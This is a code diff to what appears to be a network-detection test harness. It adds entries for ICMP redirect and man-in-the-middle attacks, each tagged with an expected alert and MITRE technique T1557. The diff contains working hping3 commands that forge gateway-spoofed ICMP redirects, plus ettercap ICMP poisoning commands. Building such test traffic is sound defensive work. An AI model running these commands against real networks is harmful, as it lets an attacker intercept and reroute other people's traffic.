@@ -128,10 +128,10 @@ function poisoned(answer: string, ask: (site: Site, name: string) => string, nee
   };
 }
 
-/** Alice speaks with a host outside; evil tells her that the way there leads by itself. */
-function redirected(tool: string, command: (site: Site) => string): Attack {
+/** Alice speaks with a host outside; evil tells her that the way there leads by another host, or itself. */
+function redirected(name: string, tool: string, command: (site: Site) => string): Attack {
   return {
-    class: 'icmp.redirect',
+    class: `icmp.${name}`,
     alerts: ['icmp.redirect'],
     technique: 'T1557',
     tool,
@@ -147,6 +147,13 @@ function redirected(tool: string, command: (site: Site) => string): Attack {
       seconds: 16,
     }),
   };
+}
+
+/** For hping3: in the name of the gateway, that `way` leads outside. */
+function redirectBy(site: Site, way: 'evil' | 'web'): string {
+  const [alice, outside] = [site.address('alice'), site.address('outside')];
+  const message = `--icmp -C 5 -K 1 --icmp-gw ${site.address(way)} --icmp-ipsrc ${alice} --icmp-ipdst ${outside}`;
+  return `-q -I eth0 -c 5 -a ${site.address('gateway')} ${message} ${alice}`;
 }
 
 export const neighbourAttacks: readonly Attack[] = [
@@ -225,13 +232,18 @@ export const neighbourAttacks: readonly Attack[] = [
   },
   poisoned('llmnr_spoof', (_site, name) => `dig +noedns +norecurse +tries=1 +time=1 -p 5355 @224.0.0.252 ${name} A`, ['dig']),
   poisoned('nbns_spoof', ({ net }, name) => `nmblookup -B ${net}.255 ${name}`, ['nmblookup']),
+  redirected('redirect', 'hping3', (site) => `hping3 ${redirectBy(site, 'evil')}`),
+  // It speaks with the gateway itself, as who stands in the middle does.
   redirected(
+    'redirect.elsewhere',
     'hping3',
-    (site) =>
-      `hping3 -q -I eth0 --icmp -C 5 -K 1 -c 5 -a ${site.address('gateway')} --icmp-gw ${site.address('evil')} ` +
-      `--icmp-ipsrc ${site.address('alice')} --icmp-ipdst ${site.address('outside')} ${site.address('alice')}`,
+    (site) => `sh -c "ping -q -c 2 ${site.address('gateway')} & exec hping3 ${redirectBy(site, 'web')}"`,
   ),
-  redirected('ettercap', (site) => `ettercap -T -q -i eth0 -M icmp:${site.mac('gateway')}/${site.address('gateway')} < /dev/null`),
+  redirected(
+    'redirect',
+    'ettercap',
+    (site) => `ettercap -T -q -i eth0 -M icmp:${site.mac('gateway')}/${site.address('gateway')} < /dev/null`,
+  ),
   thc(
     'redirect',
     'icmp.redirect',
